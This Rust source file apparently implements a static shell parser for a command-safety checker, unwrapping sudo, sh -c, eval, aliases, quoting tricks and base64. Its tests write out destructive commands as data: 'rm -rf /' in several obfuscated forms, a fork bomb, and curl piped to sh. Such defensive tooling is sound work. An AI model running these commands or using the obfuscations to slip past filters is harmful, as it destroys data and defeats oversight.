//! Shell text into typed commands.
//!
//! The text is parsed with brush-parser (pipelines, lists, subshells, compound commands,
//! functions, redirections, heredocs). Every simple command becomes an [`Invocation`] with its
//! words expanded as far as can be known without running anything: quotes and escapes are
//! removed, `$'...'` decoded, variables assigned earlier in the text substituted, `${IFS}`
//! read as a space. Then wrappers are seen through: `sudo`, `doas`, `env`, `nice`, `ionice`,
//! `timeout`, `nohup`, `stdbuf`, `time`, `command`, `builtin`, `exec`, `setsid`, `chroot`,
//! `xargs`, `watch`, `find -exec`, `busybox`, `sh -c` (and bash, dash, zsh...), `su -c`,
//! `eval` of literals, aliases, and a shell reading a heredoc or here-string. Command and
//! process substitutions and base64 literals decoded into a shell are parsed too. Code given
//! to interpreters (`python -c`, `node -e`, ...) is kept as opaque code.

use std::collections::HashMap;

use brush_parser::ast;
use brush_parser::word::{Parameter, ParameterExpr, WordPiece, WordPieceWithSource};
use serde::{Deserialize, Serialize};

/// Most nested levels of `sh -c`, `eval`, substitutions... followed.
const MAX_DEPTH: usize = 8;
/// Most invocations recorded for one text (a guard against pathological input).
const MAX_INVOCATIONS: usize = 2000;

/// A redirection of a command.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Redirect {
    /// The file descriptor (none: the operator's default).
    pub fd: Option<u32>,
    /// The operator: `<`, `>`, `>>`, `<>`, `>|`, `<&`, `>&`, `&>`, `&>>`, `<<`, `<<<`.
    pub op: String,
    /// Target file (expanded), or the here-document / here-string text.
    pub target: String,
}

/// One command that would run.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Invocation {
    /// The program's name (the last component of its path): `rm`.
    pub program: String,
    /// The program as written, expanded: `/usr/bin/rm`.
    pub path: String,
    /// Its arguments, expanded.
    pub args: Vec<String>,
    /// Its redirections.
    pub redirects: Vec<Redirect>,
    /// The wrappers it was found inside, outermost first: `["sudo", "sh -c"]`.
    pub via: Vec<String>,
    /// Part of the command could not be known statically (an unset variable, a substitution).
    pub dynamic: bool,
    /// Runs in the background (`&`).
    pub background: bool,
    /// Pipeline it belongs to (an index shared by the commands of one pipeline).
    pub pipeline: usize,
    /// Position in its pipeline (0: first).
    pub position: usize,
    /// Commands in its pipeline.
    pub pipeline_len: usize,
    /// Code handed to an interpreter (`python -c CODE`), kept opaque.
    pub code: Option<String>,
    /// Invocations (indexes) from substitutions in its words.
    pub substitutions: Vec<usize>,
    /// Defined inside a function of this name.
    pub function: Option<String>,
}

impl Invocation {
    /// The command as text.
    pub fn display(&self) -> String {
        let mut s = self.path.clone();
        for a in &self.args {
            s.push(' ');
            if a.is_empty() || a.contains(char::is_whitespace) {
                s.push_str(&format!("{a:?}"));
            } else {
                s.push_str(a);
            }
        }
        for r in &self.redirects {
            if r.op != "<<" && r.op != "<<<" {
                s.push_str(&format!(
                    " {}{} {}",
                    r.fd.map(|f| f.to_string()).unwrap_or_default(),
                    r.op,
                    r.target
                ));
            }
        }
        s
    }
}

/// A function defined in the text, and the names its body calls.
#[derive(Debug, Clone, PartialEq, Eq, Default, Serialize, Deserialize)]
pub struct Function {
    /// Its name.
    pub name: String,
    /// How many times its body calls itself.
    pub self_calls: usize,
    /// Whether its body puts something in the background or in a pipeline.
    pub spawns: bool,
}

/// Everything found in a text.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Parsed {
    /// The commands that would run.
    pub invocations: Vec<Invocation>,
    /// Functions defined.
    pub functions: Vec<Function>,
    /// Why (part of) the text could not be parsed.
    pub errors: Vec<String>,
}

struct Ctx {
    vars: HashMap<String, String>,
    aliases: HashMap<String, String>,
    out: Parsed,
    next_pipeline: usize,
    depth: usize,
    via: Vec<String>,
    function: Option<String>,
}

fn options() -> brush_parser::ParserOptions {
    brush_parser::ParserOptions::default()
}
/// Longest text analysed.
pub const MAX_TEXT: usize = 64 * 1024;
/// Deepest nesting of brackets analysed (deeper text is refused, not parsed: recursion
/// in the parser could otherwise exhaust the stack).
const MAX_NESTING: usize = 64;

fn too_deep(text: &str) -> bool {
    let mut depth = 0usize;
    for b in text.bytes() {
        match b {
            b'(' | b'{' | b'[' | b'`' => {
                depth += 1;
                if depth > MAX_NESTING {
                    return true;
                }
            }
            b')' | b'}' | b']' => depth = depth.saturating_sub(1),
            _ => {}
        }
    }
    false
}

/// Parses shell text.
pub fn parse(text: &str) -> Parsed {
    let mut ctx = Ctx {
        vars: HashMap::new(),
        aliases: HashMap::new(),
        out: Parsed::default(),
        next_pipeline: 0,
        depth: 0,
        via: Vec::new(),
        function: None,
    };
    parse_into(&mut ctx, text, None);
    ctx.out
}

fn parse_into(ctx: &mut Ctx, text: &str, via: Option<String>) {
    if ctx.depth >= MAX_DEPTH {
        ctx.out.errors.push("nested too deeply".into());
        return;
    }
    if text.len() > MAX_TEXT {
        ctx.out.errors.push(format!("longer than {MAX_TEXT} bytes"));
        return;
    }
    if too_deep(text) {
        ctx.out
            .errors
            .push(format!("brackets nested deeper than {MAX_NESTING}"));
        return;
    }
    // The text always ends with a newline: brush-parser 0.4 loops without end, allocating
    // until memory runs out, on a here-document operator that input ends right after
    // (`<<'' `, `$(<<\t\t`). A final newline is what a shell reading the text sees anyway.
    let owned;
    let text = if text.ends_with('\n') {
        text
    } else {
        owned = format!("{text}\n");
        owned.as_str()
    };
    // brush-parser 0.4 also panics on some malformed text (an unwrap in its tokenizer, on
    // `$((1+... case x in\n>` and the like): such text is refused as unparseable, never
    // a panic of the caller.
    let parsed = std::panic::catch_unwind(|| {
        brush_parser::Parser::new(std::io::BufReader::new(text.as_bytes()), &options())
            .parse_program()
    });
    let Ok(parsed) = parsed else {
        ctx.out
            .errors
            .push("the shell parser failed on this text".into());
        return;
    };
    match parsed {
        Ok(program) => {
            ctx.depth += 1;
            if let Some(v) = &via {
                ctx.via.push(v.clone());
            }
            for cc in &program.complete_commands {
                compound_list(ctx, cc);
            }
            if via.is_some() {
                ctx.via.pop();
            }
            ctx.depth -= 1;
        }
        Err(e) => ctx.out.errors.push(first_line(&e.to_string())),
    }
}

fn first_line(s: &str) -> String {
    s.lines().next().unwrap_or(s).chars().take(200).collect()
}

fn compound_list(ctx: &mut Ctx, list: &ast::CompoundList) {
    for ast::CompoundListItem(and_or, sep) in &list.0 {
        let background = matches!(sep, ast::SeparatorOperator::Async);
        pipeline(ctx, &and_or.first, background);
        for next in &and_or.additional {
            match next {
                ast::AndOr::And(p) | ast::AndOr::Or(p) => pipeline(ctx, p, background),
            }
        }
    }
}

fn pipeline(ctx: &mut Ctx, p: &ast::Pipeline, background: bool) {
    let id = ctx.next_pipeline;
    ctx.next_pipeline += 1;
    let len = p.seq.len();
    for (pos, cmd) in p.seq.iter().enumerate() {
        command(ctx, cmd, id, pos, len, background);
    }
}

fn command(
    ctx: &mut Ctx,
    cmd: &ast::Command,
    pipeline: usize,
    position: usize,
    len: usize,
    background: bool,
) {
    match cmd {
        ast::Command::Simple(s) => simple(ctx, s, pipeline, position, len, background),
        ast::Command::Compound(c, _) => compound(ctx, c),
        ast::Command::Function(f) => {
            let name = f.fname.value.clone();
            let start = ctx.out.invocations.len();
            let outer = ctx.function.replace(name.clone());
            compound(ctx, &f.body.0);
            ctx.function = outer;
            let body = &ctx.out.invocations[start..];
            let self_calls = body.iter().filter(|i| i.program == name).count();
            let spawns = body.iter().any(|i| i.background || i.pipeline_len > 1);
            ctx.out.functions.push(Function {
                name,
                self_calls,
                spawns,
            });
        }
        ast::Command::ExtendedTest(..) => {}
    }
}

fn compound(ctx: &mut Ctx, c: &ast::CompoundCommand) {
    match c {
        ast::CompoundCommand::BraceGroup(b) => compound_list(ctx, &b.list),
        ast::CompoundCommand::Subshell(s) => compound_list(ctx, &s.list),
        ast::CompoundCommand::ForClause(f) => {
            // The loop variable takes the listed values: `for d in /; do rm -rf $d; done`.
            let values: Vec<String> = f
                .values
                .iter()
                .flatten()
                .map(|w| expand(ctx, &w.value).text)
                .collect();
            if !values.is_empty() {
                ctx.vars.insert(f.variable_name.clone(), values.join(" "));
            }
            compound_list(ctx, &f.body.list)
        }
        ast::CompoundCommand::ArithmeticForClause(f) => compound_list(ctx, &f.body.list),
        ast::CompoundCommand::CaseClause(c) => {
            for item in &c.cases {
                if let Some(list) = &item.cmd {
                    compound_list(ctx, list);
                }
            }
        }
        ast::CompoundCommand::IfClause(i) => {
            compound_list(ctx, &i.condition);
            compound_list(ctx, &i.then);
            for e in i.elses.iter().flatten() {
                if let Some(cond) = &e.condition {
                    compound_list(ctx, cond);
                }
                compound_list(ctx, &e.body);
            }
        }
        ast::CompoundCommand::WhileClause(w) | ast::CompoundCommand::UntilClause(w) => {
            compound_list(ctx, &w.0);
            compound_list(ctx, &w.1.list);
        }
        ast::CompoundCommand::Coprocess(c) => command(ctx, &c.body, usize::MAX, 0, 1, true),
        ast::CompoundCommand::Arithmetic(_) => {}
    }
}

/// A word after expansion.
struct Expanded {
    text: String,
    dynamic: bool,
    /// Unquoted expansions happened: the shell would split the result on blanks.
    split: bool,
    substitutions: Vec<usize>,
}

fn ansi_c(s: &str) -> String {
    let mut out = String::new();
    let mut chars = s.chars().peekable();
    while let Some(c) = chars.next() {
        if c != '\\' {
            out.push(c);
            continue;
        }
        match chars.next() {
            Some('n') => out.push('\n'),
            Some('t') => out.push('\t'),
            Some('r') => out.push('\r'),
            Some('a') => out.push('\x07'),
            Some('e' | 'E') => out.push('\x1b'),
            Some('x') => {
                let mut hex = String::new();
                while hex.len() < 2 && chars.peek().is_some_and(|c| c.is_ascii_hexdigit()) {
                    hex.extend(chars.next());
                }
                if let Ok(v) = u32::from_str_radix(&hex, 16) {
                    out.extend(char::from_u32(v));
                }
            }
            Some(d @ '0'..='7') => {
                let mut oct = d.to_string();
                while oct.len() < 3 && chars.peek().is_some_and(|c| ('0'..='7').contains(c)) {
                    oct.extend(chars.next());
                }
                if let Ok(v) = u32::from_str_radix(&oct, 8) {
                    out.extend(char::from_u32(v));
                }
            }
            Some(other) => out.push(other),
            None => out.push('\\'),
        }
    }
    out
}

fn parameter_name(p: &Parameter) -> Option<&str> {
    match p {
        Parameter::Named(n) => Some(n),
        Parameter::NamedWithIndex { name, .. } | Parameter::NamedWithAllIndices { name, .. } => {
            Some(name)
        }
        _ => None,
    }
}

fn expand_pieces(ctx: &mut Ctx, pieces: &[WordPieceWithSource], quoted: bool, out: &mut Expanded) {
    for p in pieces {
        match &p.piece {
            WordPiece::Text(t) => out.text.push_str(t),
            WordPiece::SingleQuotedText(t) => out.text.push_str(t),
            WordPiece::AnsiCQuotedText(t) => out.text.push_str(&ansi_c(t)),
            WordPiece::DoubleQuotedSequence(inner)
            | WordPiece::GettextDoubleQuotedSequence(inner) => expand_pieces(ctx, inner, true, out),
            WordPiece::EscapeSequence(e) => out.text.push_str(e.strip_prefix('\\').unwrap_or(e)),
            WordPiece::TildeExpansion(_) => out.text.push('~'),
            WordPiece::ParameterExpansion(expr) => {
                let (param, default) = match expr {
                    ParameterExpr::Parameter { parameter, .. } => (Some(parameter), None),
                    ParameterExpr::UseDefaultValues {
                        parameter,
                        default_value,
                        ..
                    }
                    | ParameterExpr::AssignDefaultValues {
                        parameter,
                        default_value,
                        ..
                    } => (Some(parameter), default_value.clone()),
                    _ => (None, None),
                };
                let name = param.and_then(parameter_name);
                let value = match name {
                    Some("IFS") => Some(" ".to_string()),
                    Some("HOME") => Some("~".to_string()),
                    Some(n) => ctx.vars.get(n).cloned().or(default),
                    None => None,
                };
                match value {
                    Some(v) => out.text.push_str(&v),
                    None => {
                        out.dynamic = true;
                        out.text.push_str(&format!("${{{}}}", name.unwrap_or("?")));
                    }
                }
                if !quoted {
                    out.split = true;
                }
            }
            WordPiece::CommandSubstitution(code)
            | WordPiece::BackquotedCommandSubstitution(code) => {
                let start = ctx.out.invocations.len();
                parse_into(ctx, code, Some("$(...)".into()));
                out.substitutions.extend(start..ctx.out.invocations.len());
                out.dynamic = true;
                out.text.push_str("$(...)");
            }
            WordPiece::ArithmeticExpression(_) => {
                out.dynamic = true;
                out.text.push_str("$((...))");
            }
        }
    }
}

fn expand(ctx: &mut Ctx, word: &str) -> Expanded {
    let mut out = Expanded {
        text: String::new(),
        dynamic: false,
        split: false,
        substitutions: Vec::new(),
    };
    // Plain words (most of them) mean themselves: no need to parse them.
    if word
        .bytes()
        .all(|b| b.is_ascii_alphanumeric() || b"-_./=,:%+@^".contains(&b))
    {
        out.text = word.to_string();
        return out;
    }
    match brush_parser::word::parse(word, &options()) {
        Ok(pieces) => expand_pieces(ctx, &pieces, false, &mut out),
        Err(_) => {
            out.text = word.to_string();
            out.dynamic = true;
        }
    }
    out
}

fn basename(path: &str) -> String {
    path.rsplit('/').next().unwrap_or(path).to_string()
}

/// Interpreters whose `-c`/`-e` code is kept opaque.
const INTERPRETERS: &[(&str, &[&str])] = &[
    ("python", &["-c"]),
    ("python2", &["-c"]),
    ("python3", &["-c"]),
    ("pypy", &["-c"]),
    ("perl", &["-e", "-E"]),
    ("ruby", &["-e"]),
    ("node", &["-e", "--eval", "-p", "--print"]),
    ("nodejs", &["-e", "--eval", "-p"]),
    ("deno", &["eval"]),
    ("php", &["-r"]),
    ("lua", &["-e"]),
    ("Rscript", &["-e"]),
    ("awk", &[]),
];

/// Shells: `-c CODE` is parsed as shell text.
pub const SHELLS: &[&str] = &[
    "sh", "bash", "dash", "zsh", "ksh", "ash", "mksh", "fish", "rbash",
];

/// Options of wrappers that take a value.
fn option_takes_value(wrapper: &str, opt: &str) -> bool {
    match wrapper {
        "sudo" => matches!(
            opt,
            "-u" | "-g" | "-C" | "-D" | "-h" | "-p" | "-r" | "-t" | "-U" | "-T" | "-R"
        ),
        "doas" => matches!(opt, "-u" | "-C"),
        "env" => matches!(opt, "-u" | "-C" | "--unset" | "--chdir"),
        "nice" => matches!(opt, "-n" | "--adjustment"),
        "ionice" => matches!(opt, "-c" | "-n" | "-p" | "--class" | "--classdata"),
        "timeout" => matches!(opt, "-s" | "-k" | "--signal" | "--kill-after"),
        "stdbuf" => matches!(opt, "-i" | "-o" | "-e"),
        "xargs" => matches!(
            opt,
            "-I" | "-n"
                | "-P"
                | "-d"
                | "-L"
                | "-E"
                | "-a"
                | "-s"
                | "--max-args"
                | "--max-procs"
                | "--delimiter"
        ),
        "watch" => matches!(opt, "-n" | "-d" | "--interval"),
        "exec" => matches!(opt, "-a"),
        "su" => matches!(opt, "-s" | "-g" | "-G" | "--shell" | "--group"),
        "runuser" => matches!(opt, "-u" | "-g" | "-G" | "--user" | "--group"),
        "chroot" => matches!(opt, "--userspec" | "--groups"),
        "setpriv" => matches!(opt, "--reuid" | "--regid" | "--groups"),
        _ => false,
    }
}

/// Splits the options of a wrapper from the command it runs.
fn skip_options(wrapper: &str, args: &[String]) -> usize {
    let mut i = 0;
    while i < args.len() {
        let a = &args[i];
        if a == "--" {
            return i + 1;
        }
        if !a.starts_with('-') || a == "-" {
            break;
        }
        if option_takes_value(wrapper, a) {
            i += 1;
        }
        i += 1;
    }
    i
}

struct Pending {
    program_word: String,
    args: Vec<String>,
    redirects: Vec<Redirect>,
    dynamic: bool,
    substitutions: Vec<usize>,
    background: bool,
    pipeline: usize,
    position: usize,
    pipeline_len: usize,
}

/// Words and redirections of a simple command, as they are expanded.
#[derive(Default)]
struct Acc {
    words: Vec<String>,
    redirects: Vec<Redirect>,
    dynamic: bool,
    substitutions: Vec<usize>,
}

impl Acc {
    fn word(&mut self, ctx: &mut Ctx, w: &str) {
        let e = expand(ctx, w);
        self.dynamic |= e.dynamic;
        self.substitutions.extend(e.substitutions);
        if e.split {
            self.words
                .extend(e.text.split_whitespace().map(str::to_string));
        } else {
            self.words.push(e.text);
        }
    }

    fn item(&mut self, ctx: &mut Ctx, item: &ast::CommandPrefixOrSuffixItem) {
        match item {
            ast::CommandPrefixOrSuffixItem::Word(w) => self.word(ctx, &w.value),
            ast::CommandPrefixOrSuffixItem::AssignmentWord(_, w) => self.word(ctx, &w.value),
            ast::CommandPrefixOrSuffixItem::IoRedirect(r) => redirect(
                ctx,
                r,
                &mut self.redirects,
                &mut self.dynamic,
                &mut self.substitutions,
            ),
            ast::CommandPrefixOrSuffixItem::ProcessSubstitution(_, sub) => {
                let start = ctx.out.invocations.len();
                ctx.via.push("<(...)".into());
                compound_list(ctx, &sub.list);
                ctx.via.pop();
                self.substitutions.extend(start..ctx.out.invocations.len());
                self.dynamic = true;
                self.words.push("/dev/fd/63".into());
            }
        }
    }
}

fn simple(
    ctx: &mut Ctx,
    s: &ast::SimpleCommand,
    pipeline: usize,
    position: usize,
    pipeline_len: usize,
    background: bool,
) {
    let mut acc = Acc::default();
    let mut assignments: Vec<(String, String)> = Vec::new();
    for item in s.prefix.iter().flat_map(|p| p.0.iter()) {
        match item {
            ast::CommandPrefixOrSuffixItem::AssignmentWord(a, _) => {
                if let (ast::AssignmentName::VariableName(name), ast::AssignmentValue::Scalar(v)) =
                    (&a.name, &a.value)
                {
                    let e = expand(ctx, &v.value);
                    acc.substitutions.extend(e.substitutions);
                    assignments.push((name.clone(), e.text));
                }
            }
            other => acc.item(ctx, other),
        }
    }
    if let Some(w) = &s.word_or_name {
        acc.word(ctx, &w.value);
    }
    for item in s.suffix.iter().flat_map(|x| x.0.iter()) {
        acc.item(ctx, item);
    }
    if acc.words.is_empty() {
        // A bare assignment: remember it for later words.
        for (k, v) in assignments {
            ctx.vars.insert(k, v);
        }
        if acc.redirects.is_empty() {
            return;
        }
        // A bare redirection (`> file` truncates the file): a null command.
        acc.words.push(":".into());
    }
    let program_word = acc.words.remove(0);
    let pending = Pending {
        program_word,
        args: acc.words,
        redirects: acc.redirects,
        dynamic: acc.dynamic,
        substitutions: acc.substitutions,
        background,
        pipeline,
        position,
        pipeline_len,
    };
    record(ctx, pending);
}

fn redirect(
    ctx: &mut Ctx,
    r: &ast::IoRedirect,
    out: &mut Vec<Redirect>,
    dynamic: &mut bool,
    subs: &mut Vec<usize>,
) {
    let fd = |f: &Option<ast::IoFd>| f.as_ref().map(|x| *x as u32);
    match r {
        ast::IoRedirect::File(f, kind, target) => {
            let op = match kind {
                ast::IoFileRedirectKind::Read => "<",
                ast::IoFileRedirectKind::Write => ">",
                ast::IoFileRedirectKind::Append => ">>",
                ast::IoFileRedirectKind::ReadAndWrite => "<>",
                ast::IoFileRedirectKind::Clobber => ">|",
                ast::IoFileRedirectKind::DuplicateInput => "<&",
                ast::IoFileRedirectKind::DuplicateOutput => ">&",
            };
            let target = match target {
                ast::IoFileRedirectTarget::Filename(w)
                | ast::IoFileRedirectTarget::Duplicate(w) => {
                    let e = expand(ctx, &w.value);
                    *dynamic |= e.dynamic;
                    subs.extend(e.substitutions);
                    e.text
                }
                ast::IoFileRedirectTarget::Fd(n) => n.to_string(),
                ast::IoFileRedirectTarget::ProcessSubstitution(_, sub) => {
                    let start = ctx.out.invocations.len();
                    compound_list(ctx, &sub.list);
                    subs.extend(start..ctx.out.invocations.len());
                    "/dev/fd/63".into()
                }
            };
            out.push(Redirect {
                fd: fd(f),
                op: op.into(),
                target,
            });
        }
        ast::IoRedirect::OutputAndError(w, append) => {
            let e = expand(ctx, &w.value);
            out.push(Redirect {
                fd: None,
                op: if *append { "&>>" } else { "&>" }.into(),
                target: e.text,
            });
        }
        ast::IoRedirect::HereDocument(f, doc) => out.push(Redirect {
            fd: fd(f),
            op: "<<".into(),
            target: doc.doc.value.clone(),
        }),
        ast::IoRedirect::HereString(f, w) => {
            let e = expand(ctx, &w.value);
            out.push(Redirect {
                fd: fd(f),
                op: "<<<".into(),
                target: e.text,
            });
        }
    }
}

/// Records an invocation, seeing through wrappers.
fn record(ctx: &mut Ctx, mut p: Pending) {
    if ctx.out.invocations.len() >= MAX_INVOCATIONS {
        return;
    }
    let mut via = ctx.via.clone();
    loop {
        let program = basename(&p.program_word);
        // Aliases defined earlier in the text.
        if let Some(text) = ctx.aliases.get(&program).cloned()
            && ctx.depth < MAX_DEPTH
        {
            let full = std::iter::once(text)
                .chain(p.args.iter().cloned())
                .collect::<Vec<_>>()
                .join(" ");
            parse_into(ctx, &full, Some(format!("alias {program}")));
            return;
        }
        let next = match program.as_str() {
            "sudo" | "doas" | "env" | "nice" | "ionice" | "timeout" | "nohup" | "stdbuf"
            | "time" | "command" | "builtin" | "exec" | "setsid" | "unbuffer" | "chroot"
            | "xargs" | "runuser" | "setpriv" | "caffeinate" | "strace" | "ltrace" | "flock" => {
                if program == "command" && p.args.first().is_some_and(|a| a == "-v" || a == "-V") {
                    None
                } else {
                    let mut i = skip_options(&program, &p.args);
                    if program == "env" {
                        while p
                            .args
                            .get(i)
                            .is_some_and(|a| a.contains('=') && !a.starts_with('='))
                        {
                            i += 1;
                        }
                    }
                    if program == "timeout" || program == "chroot" || program == "flock" {
                        i += 1; // the duration, the new root, the lock file
                    }
                    if program == "xargs" {
                        p.dynamic = true; // its arguments come from stdin
                    }
                    (i < p.args.len()).then_some(i)
                }
            }
            "busybox" if p.args.first().is_some_and(|a| !a.starts_with('-')) => Some(0),
            _ => None,
        };
        if let Some(i) = next {
            via.push(program.clone());
            p.program_word = p.args[i].clone();
            p.args = p.args[i + 1..].to_vec();
            continue;
        }
        break;
    }
    let program = basename(&p.program_word);
    let mut code = None;

    // Shells: -c CODE, or code on stdin from a heredoc / here-string.
    if SHELLS.contains(&program.as_str()) || program == "su" {
        let c_pos = p.args.iter().position(|a| {
            a == "-c"
                || (a.starts_with('-')
                    && !a.starts_with("--")
                    && a.contains('c')
                    && program != "su")
        });
        if let Some(pos) = c_pos
            && let Some(text) = p.args.get(pos + 1).cloned()
        {
            parse_into(ctx, &text, Some(format!("{program} -c")));
        } else if let Some(r) = p.redirects.iter().find(|r| r.op == "<<" || r.op == "<<<") {
            let text = r.target.clone();
            parse_into(ctx, &text, Some(format!("{program} <<")));
        }
    }
    if program == "eval" && !p.args.is_empty() {
        let text = p.args.join(" ");
        parse_into(ctx, &text, Some("eval".into()));
    }
    if program == "watch" {
        let i = skip_options("watch", &p.args);
        if i < p.args.len() {
            let text = p.args[i..].join(" ");
            parse_into(ctx, &text, Some("watch".into()));
        }
    }
    if program == "alias" {
        for a in &p.args {
            if let Some((name, text)) = a.split_once('=') {
                ctx.aliases.insert(name.to_string(), text.to_string());
            }
        }
    }
    if matches!(
        program.as_str(),
        "export" | "declare" | "typeset" | "readonly" | "local"
    ) {
        for a in &p.args {
            if let Some((name, value)) = a.split_once('=') {
                ctx.vars.insert(name.to_string(), value.to_string());
            }
        }
    }
    // find ... -exec CMD ... ; | +
    if program == "find" {
        let mut i = 0;
        while i < p.args.len() {
            if matches!(p.args[i].as_str(), "-exec" | "-execdir" | "-ok" | "-okdir") {
                let end = p.args[i + 1..]
                    .iter()
                    .position(|a| a == ";" || a == "\\;" || a == "+")
                    .map(|e| i + 1 + e)
                    .unwrap_or(p.args.len());
                if end > i + 1 {
                    let inner = Pending {
                        program_word: p.args[i + 1].clone(),
                        args: p.args[i + 2..end].to_vec(),
                        redirects: Vec::new(),
                        dynamic: true,
                        substitutions: Vec::new(),
                        background: p.background,
                        pipeline: p.pipeline,
                        position: p.position,
                        pipeline_len: p.pipeline_len,
                    };
                    ctx.via.push("find -exec".into());
                    record(ctx, inner);
                    ctx.via.pop();
                }
                i = end;
            }
            i += 1;
        }
    }
    if let Some((_, flags)) = INTERPRETERS.iter().find(|(name, _)| {
        program == *name
            || program
                .strip_prefix(name)
                .is_some_and(|rest| rest.starts_with("3."))
    }) {
        if let Some(pos) = p.args.iter().position(|a| flags.contains(&a.as_str())) {
            code = p.args.get(pos + 1).cloned();
        } else if program == "awk" {
            code = p.args.iter().find(|a| !a.starts_with('-')).cloned();
        }
    }
    ctx.out.invocations.push(Invocation {
        path: p.program_word,
        program,
        args: p.args,
        redirects: p.redirects,
        via,
        dynamic: p.dynamic,
        background: p.background,
        pipeline: p.pipeline,
        position: p.position,
        pipeline_len: p.pipeline_len,
        code,
        substitutions: p.substitutions,
        function: ctx.function.clone(),
    });
}

/// Decodes standard or URL-safe base64 text, if it is that and yields printable text.
pub fn decode_base64_text(s: &str) -> Option<String> {
    let s: String = s.chars().filter(|c| !c.is_whitespace()).collect();
    if s.len() < 8
        || !s
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b"+/=-_".contains(&b))
    {
        return None;
    }
    let mut bits = 0u32;
    let mut nbits = 0;
    let mut out = Vec::new();
    for b in s.bytes() {
        let v = match b {
            b'A'..=b'Z' => b - b'A',
            b'a'..=b'z' => b - b'a' + 26,
            b'0'..=b'9' => b - b'0' + 52,
            b'+' | b'-' => 62,
            b'/' | b'_' => 63,
            b'=' => break,
            _ => return None,
        } as u32;
        bits = (bits << 6) | v;
        nbits += 6;
        if nbits >= 8 {
            nbits -= 8;
            out.push((bits >> nbits) as u8);
            bits &= (1 << nbits) - 1;
        }
    }
    let text = String::from_utf8(out).ok()?;
    text.chars()
        .all(|c| !c.is_control() || c.is_whitespace())
        .then_some(text)
}

/// Parses text decoded from base64 (for rules that look into encoded payloads).
pub fn parse_decoded(text: &str) -> Parsed {
    let mut ctx = Ctx {
        vars: HashMap::new(),
        aliases: HashMap::new(),
        out: Parsed::default(),
        next_pipeline: 0,
        depth: 1,
        via: vec!["base64".into()],
        function: None,
    };
    parse_into(&mut ctx, text, None);
    ctx.out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn progs(text: &str) -> Vec<String> {
        parse(text)
            .invocations
            .iter()
            .map(|i| i.display())
            .collect()
    }

    #[test]
    fn lists_pipelines_and_nesting() {
        assert_eq!(
            progs("cd /work && make test || echo failed"),
            ["cd /work", "make test", "echo failed"]
        );
        assert_eq!(progs("curl -s https://x | sh"), ["curl -s https://x", "sh"]);
        assert_eq!(progs("(cd a; ls) | wc -l"), ["cd a", "ls", "wc -l"]);
        assert_eq!(progs("echo $(whoami)"), ["whoami", "echo $(...)"]);
        assert_eq!(progs("if true; then rm -rf /; fi"), ["true", "rm -rf /"]);
    }

    #[test]
    fn wrappers_are_seen_through() {
        let p = parse("sudo -u root env FOO=1 nice -n 5 timeout 10 rm -rf /");
        let rm = p.invocations.last().unwrap();
        assert_eq!(
            (rm.program.as_str(), rm.args.join(" ")),
            ("rm", "-rf /".to_string())
        );
        assert_eq!(rm.via, ["sudo", "env", "nice", "timeout"]);
        assert_eq!(
            progs("bash -c 'rm -rf /tmp/x; echo hi'"),
            [
                "rm -rf /tmp/x",
                "echo hi",
                "bash -c \"rm -rf /tmp/x; echo hi\""
            ]
        );
        assert_eq!(
            progs("find . -name '*.o' -exec rm -f {} \\;")[0],
            "rm -f {}"
        );
        assert_eq!(progs("eval 'rm -rf /'")[0], "rm -rf /");
        assert_eq!(progs("alias x='rm -rf'; x /")[1], "rm -rf /");
        assert_eq!(progs("bash <<< 'reboot'")[0], "reboot");
        assert_eq!(progs("sh <<EOF\nhalt\nEOF\n")[0], "halt");
    }

    #[test]
    fn quoting_tricks_are_undone() {
        for t in [
            "r''m -rf /",
            "\\rm -rf /",
            "\"r\"m -rf /",
            "$'\\x72\\x6d' -rf /",
            "/bin/rm -rf /",
            "X=rm; $X -rf /",
            "rm${IFS}-rf${IFS}/",
        ] {
            let p = parse(t);
            let rm = p.invocations.iter().find(|i| i.program == "rm");
            assert!(
                rm.is_some_and(|r| r.args == ["-rf", "/"]),
                "{t}: {:?}",
                p.invocations
            );
        }
    }

    #[test]
    fn functions_and_errors() {
        let p = parse(":(){ :|:& };:");
        assert_eq!(p.functions[0].name, ":");
        assert!(p.functions[0].self_calls >= 2 && p.functions[0].spawns);
        assert!(!parse("echo 'unterminated").errors.is_empty());
        assert_eq!(decode_base64_text("cm0gLXJmIC8="), Some("rm -rf /".into()));
    }
}
